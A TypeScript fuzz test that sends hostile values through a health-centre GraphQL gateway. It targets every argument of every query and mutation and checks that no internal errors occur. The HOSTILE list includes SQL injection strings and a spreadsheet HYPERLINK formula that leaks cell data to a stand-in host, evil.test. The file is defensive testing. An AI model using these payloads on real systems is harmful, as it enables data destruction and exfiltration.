import fc from 'fast-check';
import {
  buildClientSchema,
  getIntrospectionQuery,
  getNamedType,
  getVariableValues,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  type IntrospectionQuery,
  type OperationDefinitionNode,
  parse,
} from 'graphql';
import { expectEventually, uniqueSuffix } from '@msp/testing';
import type { DemoStack, GraphQLAnswer } from './demo-stack';

/**
 * Hostile input through the gateway, driven by the COMPOSED schema: every argument of every query and mutation of every
 * subgraph (input objects walked field by field), one hostile value at a time with the other arguments valid, as an
 * administrator and as a secretary. Any INTERNAL_SERVER_ERROR or 5xx fails the spec, naming the operation, the argument
 * path and the value. No operation is listed here: a new service is covered the day the gateway composes it. Tens of
 * thousands of requests, which write (bookings, members, tasks…): run on the demo stack after what only reads it.
 */
const SEED = 20261130;

/** Values a careless or hostile client sends; those of a wrong type for the argument never reach a service (see below). */
const HOSTILE: readonly unknown[] = [
  '',
  ' ',
  'x'.repeat(10_000),
  '🩺👩‍⚕️🏥'.repeat(50),
  'a\u0000b',
  "'; drop table patient; --",
  "1' or '1'='1",
  '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")',
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  '2026-02-30',
  '2026-02-30T09:00:00Z',
  '9999-12-31T23:59:59Z',
  '0001-01-01T00:00:00Z',
  -1,
  0,
  2_147_483_647,
  1e308,
  3.5,
  true,
  { nested: 'object' },
  [],
  null,
  // A few arbitrary strings and numbers, reproducible from the seed.
  ...fc.sample(fc.string({ unit: 'binary', maxLength: 40 }), { seed: SEED, numRuns: 3 }),
  ...fc.sample(fc.integer(), { seed: SEED, numRuns: 2 }),
];

type Step = string | number;
interface Target {
  operation: 'query' | 'mutation';
  field: GraphQLField<unknown, unknown>;
  path: Step[];
}

/** The demo data's ids, by what an argument names (`siteId`, `input.patientId`, `practitionerId`…). */
interface Known {
  structureId: string;
  cptsId: string;
  siteId: string;
  memberId: string;
  patientId: string;
  motifId: string;
  appointmentId: string;
}

export function hostileInputChecks(stack: DemoStack): void {
  let schema: GraphQLSchema;
  let known: Known;
  const tokens: Record<string, string> = {};

  beforeAll(async () => {
    known = await demoIds();
    tokens.administrator = await stack.tokenOf('admin@msp-lices.demo');
    tokens.secretary = await stack.tokenOf('secretariat@msp-lices.demo');
    // The gateway may still be composing the supergraph as the last subgraph comes up: ask until it answers.
    const introspection = await expectEventually(async () => {
      const answer = await stack.post(getIntrospectionQuery(), {}, tokens.administrator);
      expect(answer.body.errors).toBeUndefined();
      return answer;
    }, 60_000);
    schema = buildClientSchema(introspection.body.data as unknown as IntrospectionQuery);
  });

  async function demoIds(): Promise<Known> {
    const [msp] = await stack.sql('directory', `select id from structure where name = 'MSP des Lices'`);
    const [cpts] = await stack.sql('directory', `select id from structure where kind = 'CPTS' order by name limit 1`);
    const [site] = await stack.sql('directory', 'select id from site where structure_id = $1 order by name limit 1', [
      msp.id,
    ]);
    const [gp] = await stack.sql('directory', `select id from member where email = 'dr.le-gall@msp-lices.demo'`);
    const [patient] = await stack.sql('directory', 'select id from patient where structure_id = $1 limit 1', [msp.id]);
    const [motif] = await stack.sql('scheduling', 'select id from motif where structure_id = $1 limit 1', [msp.id]);
    const [appointment] = await stack.sql('scheduling', 'select id from appointment where structure_id = $1 limit 1', [
      msp.id,
    ]);
    return {
      structureId: msp.id,
      cptsId: cpts.id,
      siteId: site.id,
      memberId: gp.id,
      patientId: patient.id,
      motifId: motif?.id ?? crypto.randomUUID(),
      appointmentId: appointment?.id ?? crypto.randomUUID(),
    };
  }

  /** A valid value for an argument or input field, from its name, description and type. */
  function baseline(type: GraphQLInputType, name: string, description: string, fieldName: string): unknown {
    if (isNonNullType(type)) return baseline(type.ofType, name, description, fieldName);
    if (isListType(type)) return [baseline(type.ofType, name.replace(/s$/, ''), description, fieldName)];
    if (isInputObjectType(type)) {
      const value: Record<string, unknown> = {};
      for (const inner of Object.values(type.getFields()))
        if (isNonNullType(inner.type) && inner.defaultValue === undefined)
          value[inner.name] = baseline(inner.type, inner.name, inner.description ?? '', fieldName);
      return value;
    }
    if (isEnumType(type)) return type.getValues()[0].value;
    const named = getNamedType(type).name;
    if (named === 'Int') return /weekday/i.test(name) ? 2 : 10;
    if (named === 'Float') return 1;
    if (named === 'Boolean') return true;
    if (named === 'ID') return idFor(name, fieldName);
    return textFor(name, description);
  }

  function idFor(name: string, fieldName: string): string {
    const key = (name === 'id' ? fieldName : name).toLowerCase().replace(/ids?$/, '');
    if (key.includes('cpts')) return known.cptsId;
    if (key.includes('structure')) return known.structureId;
    if (key.includes('site')) return known.siteId;
    if (key.includes('patient')) return known.patientId;
    if (key.includes('motif')) return known.motifId;
    if (/appointment|hold/.test(key)) return known.appointmentId;
    if (/member|practitioner|referent|medecin/.test(key)) return known.memberId;
    return '5f0c9a55-3d2b-4c61-9e7f-2b1d0c4a8e93';
  }

  function textFor(name: string, description: string): string {
    const n = name.toLowerCase();
    if (/yyyy-mm-dd/i.test(description) || n.includes('date') || n === 'validfrom' || n === 'validuntil')
      return '2026-12-01';
    if (/month/.test(n)) return '2026-11';
    if (/iso-8601/i.test(description) || /at$/.test(n) || n === 'from' || n === 'to')
      return '2026-12-01T09:00:00+01:00';
    if (n.includes('email')) return `fuzz-${uniqueSuffix()}@msp.test`;
    if (n.includes('phone')) return '02 99 00 00 00';
    if (n.includes('postal')) return '35000';
    if (n.includes('zone')) return 'Europe/Paris';
    if (/opens|start(time)?$/.test(n)) return '09:00';
    if (/closes|end(time)?$/.test(n)) return '10:00';
    if (n.includes('profession')) return 'general_practitioner';
    if (n.includes('rpps')) return '10003456789';
    if (n.includes('finess')) return '350000000';
    return 'Fuzz';
  }

  /** Every place a value can go: each argument, each input-object field below it, each list item. */
  function targets(): Target[] {
    const found: Target[] = [];
    const walk = (
      operation: Target['operation'],
      field: GraphQLField<unknown, unknown>,
      type: GraphQLInputType,
      path: Step[],
    ) => {
      found.push({ operation, field, path });
      const inner = isNonNullType(type) ? type.ofType : type;
      if (isListType(inner)) {
        const item = isNonNullType(inner.ofType) ? inner.ofType.ofType : inner.ofType;
        if (isInputObjectType(item)) walk(operation, field, inner.ofType, [...path, 0]);
      } else if (isInputObjectType(inner)) {
        for (const f of Object.values(inner.getFields())) walk(operation, field, f.type, [...path, f.name]);
      }
    };
    for (const [operation, type] of [
      ['query', schema.getQueryType()],
      ['mutation', schema.getMutationType()],
    ] as const)
      for (const field of Object.values(type?.getFields() ?? {}))
        for (const arg of field.args) walk(operation, field, arg.type, [arg.name]);
    return found;
  }

  function document(operation: Target['operation'], field: GraphQLField<unknown, unknown>): string {
    const declared = field.args.map((a: GraphQLArgument) => `$${a.name}: ${a.type.toString()}`).join(', ');
    const passed = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
    const selection = isLeafType(getNamedType(field.type)) ? '' : ' { __typename }';
    return `${operation}${declared ? `(${declared})` : ''} { ${field.name}${passed ? `(${passed})` : ''}${selection} }`;
  }

  function variablesWith(target: Target, value: unknown): Record<string, unknown> {
    const variables: Record<string, unknown> = {};
    for (const arg of target.field.args)
      if (isNonNullType(arg.type) || arg.name === target.path[0])
        variables[arg.name] = baseline(arg.type, arg.name, arg.description ?? '', target.field.name);
    let parent: Record<string | number, unknown> = variables;
    for (const step of target.path.slice(0, -1)) {
      if (parent[step] === undefined || parent[step] === null) parent[step] = typeof step === 'number' ? [] : {};
      parent = parent[step] as Record<string | number, unknown>;
    }
    parent[target.path[target.path.length - 1]] = value;
    return variables;
  }

  it('never answers an internal error, whatever one argument carries, as an administrator or a secretary', async () => {
    const all = targets();
    expect(all.length).toBeGreaterThan(50); // directory and scheduling are both composed
    // One line per operation, argument path and role, with the first value that broke it and how many did.
    const failures = new Map<string, { value: unknown; answer: string; count: number }>();
    const codes: Record<string, number> = {};
    // A value of the wrong type for a built-in scalar or an enum is refused by the gateway's own variable coercion
    // (graphql-js, before any service is asked): computed here, with the same function, instead of sent. Custom
    // scalars pass any value through to the service, as they do at the gateway. The 18,000 coercions hold this process
    // for seconds, past the gateway's keep-alive: the first requests after may meet a pooled connection it closed
    // meanwhile, which `DemoStack.post` sends again once.
    const candidates = all.flatMap((target) => {
      const operation = parse(document(target.operation, target.field)).definitions[0] as OperationDefinitionNode;
      return HOSTILE.map((value) => ({ target, value, declared: operation.variableDefinitions ?? [] }));
    });
    const reachable = candidates.filter(
      ({ target, value, declared }) => !('errors' in getVariableValues(schema, declared, variablesWith(target, value))),
    );
    const jobs = reachable.flatMap((job) => Object.keys(tokens).map((role) => ({ ...job, role })));
    let next = 0;
    const worker = async () => {
      while (next < jobs.length) {
        const { target, role, value } = jobs[next++];
        // A request the gateway answers with nothing (its connection closed twice) is a failure of its own, named.
        const { status, body } = await stack
          .post(document(target.operation, target.field), variablesWith(target, value), tokens[role])
          .catch((error: Error): GraphQLAnswer => ({
            status: 599,
            body: { errors: [{ message: `no answer: ${error.message} (${String(error.cause)})` }] },
          }));
        for (const error of body.errors ?? []) {
          // A `reason` means a service answered (GraphQL's own type checks give none).
          const code = `${error.extensions?.code ?? 'none'}${error.extensions?.reason ? ' (service)' : ''}`;
          codes[code] = (codes[code] ?? 0) + 1;
        }
        const internal = body.errors?.find(
          (e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR' || !e.extensions?.code,
        );
        if (status >= 500 || internal) {
          const key = `${target.operation} ${target.field.name}(${target.path.join('.')}) as ${role}`;
          const seen = failures.get(key);
          if (seen) seen.count++;
          else failures.set(key, { value, answer: `HTTP ${status} ${internal?.message ?? ''}`, count: 1 });
        }
      }
    };
    const started = Date.now();
    await Promise.all(Array.from({ length: 4 }, worker));
    console.log(
      `hostile input: ${jobs.length} requests over ${all.length} argument paths in ${Date.now() - started} ms ` +
        `(${candidates.length - reachable.length} values of a wrong type left to GraphQL's coercion); ` +
        `error codes: ${JSON.stringify(codes)}`,
    );
    const report = [...failures].map(
      ([key, f]) => `${key} = ${JSON.stringify(f.value)?.slice(0, 60)} (and ${f.count - 1} more values): ${f.answer}`,
    );
    expect(report).toEqual([]);
    // The values reached the services (not only GraphQL's own type checks), which refused them naming the field.
    expect(codes['BAD_USER_INPUT (service)']).toBeGreaterThan(jobs.length / 10);
    expect(codes.UNAUTHENTICATED ?? 0).toBe(0);
  }, 900_000);
}
